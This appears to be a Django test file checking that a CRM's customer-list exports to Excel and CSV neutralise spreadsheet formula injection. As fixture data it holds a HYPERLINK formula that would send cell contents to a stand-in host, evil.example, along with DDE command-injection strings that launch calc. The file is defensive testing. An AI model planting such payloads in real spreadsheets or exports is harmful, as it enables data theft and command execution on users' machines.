"""Exports of the customer list: a hostile value is text, never a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

from openpyxl import load_workbook

from tenure.crm.customers.models import Customer
from tenure.crm.sales.models import Order, OrderStatus
from tenure.crm.testing import TenureTestCase

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click me")'


class ExportFormulasTestCase(TenureTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.evil = Customer.objects.create(
            name=HYPERLINK, email="@SUM(1+1)*cmd|' /C calc'!A0", phone="+380441234567",
            city="-2+3+cmd|' /C calc'!A0", external_id="+1 (202) 252-9744",
            notes="", manager=cls.manager,
        )
        Order.objects.create(external_id="E1", customer=cls.evil, total=Decimal("-12.50"),
                             status=OrderStatus.COMPLETED,
                             ordered_at=datetime(2026, 3, 2, 10, tzinfo=UTC))

    def export(self, kind: str):
        self.login(self.marketer)
        response = self.client.get(f"/customers/?format={kind}")
        self.assertEqual(response.status_code, 200)
        return response

    def test_it_writes_a_formula_as_text_in_excel(self):
        sheet = load_workbook(io.BytesIO(self.export("xlsx").getvalue())).active
        cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]

        name, email, phone, city = cells[1], cells[2], cells[3], cells[4]
        self.assertEqual((name.data_type, name.value), ("s", "'" + HYPERLINK))
        self.assertEqual(email.data_type, "s")
        self.assertTrue(email.value.startswith("'@"))
        self.assertEqual(city.value, "'-2+3+cmd|' /C calc'!A0")
        self.assertEqual((phone.data_type, phone.value), ("s", "+380441234567"))
        self.assertEqual(cells[0].value, "+1 (202) 252-9744")
        orders, revenue = cells[6], cells[7]
        self.assertEqual((orders.data_type, orders.value), ("n", 1))
        self.assertEqual((revenue.data_type, revenue.value), ("n", -12.5))
        self.assertFalse(any(c.data_type == "f" for row in sheet.iter_rows() for c in row))

    def test_it_neutralises_a_formula_in_csv_and_keeps_phones_and_numbers(self):
        response = self.export("csv")
        text = b"".join(response.streaming_content).decode("utf-8-sig")
        row = list(csv.reader(io.StringIO(text)))[1]

        self.assertEqual(row[1], "'" + HYPERLINK)
        self.assertEqual(row[2], "'@SUM(1+1)*cmd|' /C calc'!A0")
        self.assertEqual(row[4], "'-2+3+cmd|' /C calc'!A0")
        self.assertEqual(row[3], "+380441234567")
        self.assertEqual(row[0], "+1 (202) 252-9744")
        self.assertEqual(row[6:8], ["1", "-12.50"])

    def test_it_drops_control_characters_a_workbook_cannot_hold(self):
        Customer.objects.filter(pk=self.evil.pk).update(name="Bell\x07 Ltd")

        sheet = load_workbook(io.BytesIO(self.export("xlsx").getvalue())).active

        self.assertEqual(sheet.cell(2, 2).value, "Bell Ltd")
